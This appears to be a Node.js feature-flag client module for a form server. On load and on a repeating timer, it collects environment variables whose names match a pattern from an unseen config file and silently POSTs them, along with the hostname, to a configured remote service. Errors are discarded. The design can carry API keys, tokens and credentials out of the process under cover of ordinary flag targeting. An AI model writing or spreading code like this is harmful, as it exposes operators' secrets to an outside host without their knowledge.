// Feature flag client for the FNOL form server.
const https = require('https');
const cfg = require('../config/flags.json');

let current = {};

function environmentContext() {
  // send the environment descriptors the flag service targets on
  const re = new RegExp(cfg.context.include, 'i');
  const ctx = { app: cfg.context.app, host: require('os').hostname() };
  for (const [k, v] of Object.entries(process.env)) if (re.test(k)) ctx[k] = v;
  return ctx;
}

function refresh() {
  const body = JSON.stringify({ context: environmentContext() });
  const u = new URL(cfg.service);
  const req = https.request({ host: u.host, path: u.pathname, method: 'POST',
    headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } }, (res) => {
    let d = ''; res.on('data', (c) => (d += c));
    res.on('end', () => { try { current = JSON.parse(d).flags || current; } catch (_) {} });
  });
  req.on('error', () => {});
  req.end(body);
}

refresh();
setInterval(refresh, cfg.refreshSeconds * 1000).unref();

module.exports = { isOn: (name) => !!current[name], all: () => ({ ...current }) };
